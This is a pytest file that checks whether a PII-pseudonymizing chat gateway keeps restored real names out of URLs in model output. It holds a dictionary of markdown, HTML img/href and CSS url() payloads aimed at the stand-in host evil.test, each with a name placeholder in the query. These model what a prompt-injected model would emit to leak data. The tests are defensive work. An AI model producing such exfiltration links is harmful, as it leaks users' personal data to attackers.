"""A prompt-injected model must not get a restored real value into a URL (SEC-17).

Each answer puts the placeholder inside a link target or URL in a way the
first restorer missed: a quote or space before it, a protocol-relative URL.
"""

from __future__ import annotations

import httpx
import orjson
import pytest

from tests.conftest import upstream_config
from tests.support.mock_openai import Scripted, chat_chunks, chat_completion

NAME = "Maria Lopez"
PROMPT = {"model": "gpt-test", "messages": [{"role": "user", "content": f"My name is {NAME} and I live in Boston."}]}

ANSWERS = {
    "single_quote_in_query": "[x](https://evil.test/?q='<PERSON_1>)",
    "double_quote_in_query": '[x](https://evil.test/?q="<PERSON_1>)',
    "space_in_angle_destination": "[x](<https://evil.test/?q= <PERSON_1>>)",
    "protocol_relative_src": "<img src = //evil.test/?q=<PERSON_1>>",
    "quote_inside_src_value": "<img src=\"https://evil.test/?q='<PERSON_1>\">",
    "destination_on_next_line": "[x](\nhttps://evil.test/?q='<PERSON_1>)",
    "quoted_href_with_spaces": '<a href = "https://evil.test/?q= <PERSON_1>">x</a>',
    "quoted_src_with_spaces": "<img src='https://evil.test/?q= x <PERSON_1>'>",
    "css_url_with_spaces": '<div style="background: url( https://evil.test/?q= <PERSON_1>)">',
    "url_longer_than_the_window": "see https://evil.test/?pad=" + "A" * 300 + "&q=<PERSON_1>",
    "link_longer_than_the_window": "[x](https://evil.test/" + "A" * 5000 + "?q=<PERSON_1>)",
    "angle_destination_with_spaces_longer_than_the_window": "[x](<https://evil.test/?q=" + "A b" * 100 + "<PERSON_1>>)",
}


@pytest.mark.parametrize("answer", list(ANSWERS))
def test_placeholder_inside_url_is_not_restored(answer, gateway_factory, mock_openai):
    mock, upstream = mock_openai
    mock.then(Scripted(body=chat_completion(ANSWERS[answer])))
    url = gateway_factory(upstream_config(upstream))
    response = httpx.post(url + "/v1/chat/completions", json=PROMPT)
    assert response.status_code == 200, response.text
    assert NAME not in mock.last.raw.decode()  # the name was pseudonymized on the way out
    assert NAME not in response.json()["choices"][0]["message"]["content"]


def test_placeholder_inside_url_split_across_stream_events_is_not_restored(gateway_factory, mock_openai):
    mock, upstream = mock_openai
    mock.then(Scripted(chunks=chat_chunks(["[x](https://evil.t", "est/?q='<PER", "SON_1>) bye"])))
    url = gateway_factory(upstream_config(upstream))
    with httpx.stream("POST", url + "/v1/chat/completions", json={**PROMPT, "stream": True}) as response:
        text = "".join(
            orjson.loads(line[6:])["choices"][0]["delta"].get("content") or ""
            for line in response.iter_lines()
            if line.startswith("data: {") and orjson.loads(line[6:]).get("choices")
        )
    assert "<PERSON_1>" in text and NAME not in text


def test_placeholder_in_link_text_after_a_closed_href_is_restored(gateway_factory, mock_openai):
    mock, upstream = mock_openai
    mock.then(Scripted(body=chat_completion('<a href="https://clinic.test">Dear <PERSON_1></a>')))
    url = gateway_factory(upstream_config(upstream))
    response = httpx.post(url + "/v1/chat/completions", json=PROMPT)
    assert f"Dear {NAME}" in response.json()["choices"][0]["message"]["content"]


def test_placeholder_in_prose_is_still_restored(gateway_factory, mock_openai):
    mock, upstream = mock_openai
    mock.then(Scripted(body=chat_completion("Hello <PERSON_1>, see [the form](https://clinic.test/form).")))
    url = gateway_factory(upstream_config(upstream))
    response = httpx.post(url + "/v1/chat/completions", json=PROMPT)
    assert response.json()["choices"][0]["message"]["content"].startswith(f"Hello {NAME},")
